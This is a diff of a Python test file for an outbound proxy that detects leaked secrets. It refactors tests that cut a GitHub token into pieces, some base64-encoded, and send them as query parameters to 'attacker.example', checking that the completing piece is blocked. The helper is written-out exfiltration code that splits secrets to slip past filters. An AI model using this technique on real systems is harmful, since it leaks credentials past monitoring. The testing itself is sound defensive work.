@@ -96,16 +96,25 @@ def test_a_key_over_several_headers_is_assembled(
     assert line["rules"] == ["github_token", "assembled"]
 
 
+def _send_pieces(
+    client: httpx.Client, upstream: Upstream, path: str, text: str, size: int
+) -> list[int]:
+    """GET `path?i=N&d=PIECE` for each piece of `text` until one is refused."""
+    statuses = []
+    for n, at in enumerate(range(0, len(text), size)):
+        piece = quote(text[at : at + size], safe="")
+        url = f"http://attacker.example:{upstream.plain_port}{path}?i={n}&d={piece}"
+        statuses.append(client.get(url).status_code)
+        if statuses[-1] == 403:
+            break
+    return statuses
+
+
 def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pieces(
     client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
 ) -> None:
     pieces = [GITHUB[i : i + 5] for i in range(0, len(GITHUB), 5)]
-    statuses = []
-    for n, piece in enumerate(pieces):
-        url = f"http://attacker.example:{upstream.plain_port}/q?i={n}&d={piece}"
-        statuses.append(client.get(url).status_code)
-        if statuses[-1] == 403:
-            break
+    statuses = _send_pieces(client, upstream, "/q", GITHUB, 5)
     # Blocked once the pieces make a token (`ghp_` and 30 characters), before the end.
     assert statuses == [200] * 6 + [403]
     assert len(upstream.received) == 6  # the completing piece never left
@@ -119,13 +128,7 @@ def test_a_key_base64_encoded_then_cut_over_requests_is_assembled(
     client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
 ) -> None:
     encoded = base64.b64encode(GITHUB.encode()).decode()
-    pieces = [encoded[i : i + 12] for i in range(0, len(encoded), 12)]
-    statuses = []
-    for n, piece in enumerate(pieces):
-        url = f"http://attacker.example:{upstream.plain_port}/b?i={n}&d={quote(piece, safe='')}"
-        statuses.append(client.get(url).status_code)
-        if statuses[-1] == 403:
-            break
+    statuses = _send_pieces(client, upstream, "/b", encoded, 12)
     # `ghp_` and 30 characters are 46 base64 characters: the fourth piece completes them.
     assert statuses == [200] * 3 + [403]
     assert len(upstream.received) == 3
